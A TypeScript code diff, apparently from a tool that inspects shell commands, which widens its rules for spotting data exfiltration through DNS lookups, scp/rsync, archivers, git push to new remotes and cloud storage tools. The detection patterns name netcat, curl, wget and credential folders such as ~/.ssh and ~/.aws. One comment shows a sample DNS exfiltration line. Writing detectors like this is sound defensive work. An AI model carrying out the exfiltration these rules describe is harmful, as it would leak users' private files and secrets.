@@ -56,29 +56,91 @@ const sendsWhole = isAct({
   'scp rsync': ['~~ ~:'],
   gh: ['gist create -p|--public'],
   'new-object': ['~net.sockets.tcpclient|net.sockets.udpclient'],
-  'rclone s3cmd': ['copy|sync|put ~/home|/etc|~'],
+  'rclone s3cmd s5cmd mc': ['copy|sync|put|cp|mirror ~/home|/etc|~', 'copy|sync|put|mirror .'],
 });
 
 const dumpers = names(
   'tar zip 7z mysqldump pg_dump pg_dumpall mongodump sqlite3 history env printenv dmesg find set',
 );
 
-function sends(command: ObservedCommand, { commands }: Observation): boolean {
+type Sends = (command: ObservedCommand, observation: Observation) => boolean;
+
+/** Says when a program sends what it should not; a program without a line of its own is judged by the table above. */
+const sendersByName: ReadonlyMap<string, Sends> = new Map([
+  ...each('dig nslookup host ping drill getent', ({ args }, { commands }) =>
+    asksComputedName(args, commands),
+  ),
+  ...each('scp rsync', ({ args }) => sendsHome(args)),
+  ...each('rar 7z 7za 7zz zip winrar compress-archive', ({ args }) => packsDocuments(args)),
+  ...each('git', ({ args }, { commands }) => pushesElsewhere(args, commands)),
+  ...each('aws gsutil gcloud az rclone s5cmd', command => sendsWhole(command) || storesWhole(command.args)),
+  ...each('ssh', (command, { commands }) => isFedBy(command, dumpers) && packsWhole(commands)),
+]);
+
+function each(programs: string, sends: Sends): readonly (readonly [string, Sends])[] {
+  return [...names(programs)].map(program => [program, sends]);
+}
+
+function sends(command: ObservedCommand, observation: Observation): boolean {
   const { program, args } = command;
-  if (/^(?:dig|nslookup|host|ping|drill|getent)$/u.test(program)) return asksComputedName(args, commands);
+  const known = sendersByName.get(program);
+  if (known !== undefined) return known(command, observation);
   if (/^(?:nc|ncat|netcat|curl|wget)$/u.test(program) && isFedBy(command, dumpers))
     return program !== 'curl' || args.some(arg => /^(?:-T|--upload-file|@-|-d@-|-F)$|=@-/u.test(arg));
-  if (/^(?:scp|rsync)$/u.test(program)) return sendsHome(args);
   if (!senders.has(program)) return sendsWhole(command);
-  const each = command.via.some(step => /^(?:find -exec|xargs|parallel)$/u.test(step));
-  if (each && args.some(arg => /^@|=@/u.test(arg))) return true;
-  return sendsMany(args) || asksWithOutput(args, commands);
+  const repeated = command.via.some(step => /^(?:find -exec|xargs|parallel)$/u.test(step));
+  if (repeated && args.some(arg => /^@|=@/u.test(arg))) return true;
+  return sendsMany(args) || asksWithOutput(args, observation.commands);
 }
+
+const packsWhole = (commands: readonly ObservedCommand[]): boolean =>
+  commands.some(({ program, args }) => dumpers.has(program) && args.some(arg => wholePlace.test(arg)));
+
+/** A whole home to a store in a cloud. */
+const storesWhole = (args: readonly string[]): boolean =>
+  args.some(arg => wholePlace.test(arg)) &&
+  /^(?:s3|gs|\w{2,}):/u.test(args.findLast(arg => !arg.startsWith('-')) ?? '');
 
 /** `dig $(whoami).example.com`: what a command prints is spelt into the name that is asked for. */
 const asksComputedName = (args: readonly string[], commands: readonly ObservedCommand[]): boolean =>
   args.some(arg => /\uFFFC[^/]*\.\w/u.test(arg) || /^[\w-]{40,63}\.[\w.-]+$/u.test(arg)) &&
   commands.some(({ via }) => via.includes('substitution'));
+
+const wholePlace =
+  /^(?:~|\/|\/(?:etc|home|root|users)(?:\/[^/]+)?|~\/\.(?:ssh|aws|gnupg|kube|config))\/?\*?$/iu;
+
+/** Documents of people, by their endings or all at once, packed from outside the workspace. */
+const packsDocuments = (args: readonly string[]): boolean =>
+  args.some(arg => /^-dw$|^-df$/u.test(arg)) ||
+  args.some(arg =>
+    /^(?:[a-z]:[\\/]|~[\\/]|\/(?:home|users)\/).*\*\.?\w*$|^[a-z]:\\(?:users|secrets?|share|documents)\b[^.]*$/iu.test(
+      arg,
+    ),
+  );
+
+const address = /^(?:\w+:\/\/|[\w.-]+@[\w.-]+:)/u;
+
+/** The history goes to an address that is spelt out, or that this very line adds under a new name. */
+function pushesElsewhere(args: readonly string[], commands: readonly ObservedCommand[]): boolean {
+  const at = args.indexOf('push');
+  if (
+    at < 0 ||
+    args.slice(0, at).some((arg, index) => !arg.startsWith('-') && !/^-[cC]$/u.test(args[index - 1] ?? ''))
+  )
+    return false;
+  const [target = ''] = args.slice(at + 1).filter(arg => !arg.startsWith('-'));
+  if (address.test(target)) return true;
+  return (
+    !/^(?:origin|upstream|)$/u.test(target) &&
+    commands.some(
+      other =>
+        other.program === 'git' &&
+        other.args[0] === 'remote' &&
+        other.args[1] === 'add' &&
+        other.args.includes(target),
+    )
+  );
+}
 
 /** A whole home or system folder to another machine. */
 function sendsHome(args: readonly string[]): boolean {
@@ -86,9 +148,7 @@ function sendsHome(args: readonly string[]): boolean {
   const target = operands.at(-1) ?? '';
   return (
     /^(?:[\w.@-]{2,}:|rsync:\/\/)/u.test(target) &&
-    operands
-      .slice(0, -1)
-      .some(source => /^(?:~|\/|\/(?:etc|home|root|users)(?:\/[^/]+)?)\/?\*?$/iu.test(source))
+    operands.slice(0, -1).some(source => wholePlace.test(source) || /^\.\/?$/u.test(source))
   );
 }
 
